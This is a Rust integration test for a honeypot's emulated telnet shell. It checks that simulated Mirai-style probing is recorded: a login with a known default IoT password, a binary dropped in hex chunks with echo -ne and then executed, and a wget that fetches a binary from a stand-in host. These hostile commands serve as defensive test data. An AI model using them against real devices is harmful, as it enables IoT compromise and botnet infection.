//! The telnet shell holding up under probing (issue 18), over a real socket: `sleep` takes its
//! time, a binary dropped with `echo -ne` chunks is reassembled and recorded with its SHA-256,
//! and a URL named to `wget` is recorded, all checked in the outbox the publisher sends from.

mod sensor_common;

use std::time::{Duration, Instant};

use sensor_common::*;
use testkit::role::RoleProcess;
use testkit::sensor::ports;

const TIMEOUT: Duration = Duration::from_secs(30);

/// A small ARM ELF header and some bytes, as a Mirai loader drops it on a device without wget
/// (its SHA-256 worked out apart, with Python's hashlib).
const DROPPED: &[u8] = b"\x7fELF\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x28\x00\
\x01\x00\x00\x00\x54\x80\x00\x00\x34\x00\x00\x00(\x0a\xff\xfe\x00\x01\x02\x5c\x27\x22";
const DROPPED_SHA256: &str = "dcaf4f6bfd5e8b24bc98591cbe753df4f1c3d368d10c622ed403cca42468b074";

#[test]
fn sleep_waits_and_dropped_files_and_urls_are_recorded() {
    // An [hpfeeds] broker nobody listens on: every event waits in the outbox as published.
    let [port, nobody] = ports();
    let body = format!(
        "{}\n[hpfeeds]\nhost = \"127.0.0.1\"\nport = {nobody}\nident = \"s\"\nsecret = \"x\"\nchannel = \"recce7.events\"\nreconnect_max_secs = 1\n",
        testkit::sensor::telnet_any_login("t", port, "telnet")
    );
    let sensor = RoleProcess::sensor(&bin(), &body);
    let mut s = connect(port);
    read_until(&mut s, b"login: ");
    send(&mut s, b"root\r\n");
    read_until(&mut s, b"Password: ");
    send(&mut s, b"xc3511\r\n");
    read_until(&mut s, b"# ");

    let started = Instant::now();
    send(&mut s, b"sleep 1\r\n");
    let answer = read_until(&mut s, b"# ");
    let took = started.elapsed();
    assert!(answer.ends_with(b"# "), "{answer:?}");
    assert!(
        took >= Duration::from_secs(1) && took < Duration::from_secs(8),
        "sleep 1 answered in {took:?}"
    );

    send(&mut s, b"cd /tmp; >.x\r\n");
    read_until(&mut s, b"# ");
    for chunk in DROPPED.chunks(12) {
        let escaped: String = chunk.iter().map(|b| format!("\\x{b:02x}")).collect();
        send(&mut s, format!("echo -ne '{escaped}' >> .x\r\n").as_bytes());
        read_until(&mut s, b"# ");
    }
    send(&mut s, b"chmod +x .x; ./.x\r\n");
    let ran = read_until(&mut s, b"# ");
    assert!(
        String::from_utf8_lossy(&ran).contains("./.x: line 1: syntax error: unexpected \"(\""),
        "{}",
        String::from_utf8_lossy(&ran)
    );
    send(&mut s, b"wget http://dl.example/bins/x.arm7 -O /tmp/y\r\n");
    let wget = read_until(&mut s, b"# ");
    assert!(String::from_utf8_lossy(&wget).contains("wget: bad address 'dl.example'"));
    send(&mut s, b"exit\r\n");
    read_to_close(&mut s);

    let (status, dir) = sensor.terminate_keeping_dir(TIMEOUT);
    assert!(status.success(), "{}", testkit::sensor::log(dir.path()));
    let conn = db(&dir.path().join("sensor.sqlite"));
    let events: Vec<serde_json::Value> = rows(&conn, "SELECT payload FROM outbox ORDER BY rowid")
        .iter()
        .map(|p| serde_json::from_str(&p[0]).unwrap())
        .collect();
    let written: Vec<&serde_json::Value> = events
        .iter()
        .filter(|e| e["type"] == "file.written")
        .collect();
    assert_eq!(written.len(), 1, "one event per content: {written:?}");
    let file = &written[0]["data"];
    assert_eq!(file["path"], "/tmp/.x");
    assert_eq!(file["size"], DROPPED.len());
    assert_eq!(file["sha256"], DROPPED_SHA256);
    assert_eq!(file["truncated"], false);
    assert_eq!(file["via"], "redirect");
    let data = sensor::encoding::base64_decode(file["data"].as_str().unwrap().as_bytes()).unwrap();
    assert_eq!(data, DROPPED);
    let downloads: Vec<(&str, &str)> = events
        .iter()
        .filter(|e| e["type"] == "download.attempt")
        .map(|e| {
            (
                e["data"]["command"].as_str().unwrap(),
                e["data"]["url"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(downloads, [("wget", "http://dl.example/bins/x.arm7")]);
    // The commands are recorded as before, one event each.
    assert_eq!(
        count(
            &conn,
            "SELECT count(*) FROM telnet WHERE eventType = 'telnet.command' AND user_input = 'sleep 1'"
        ),
        1
    );
}
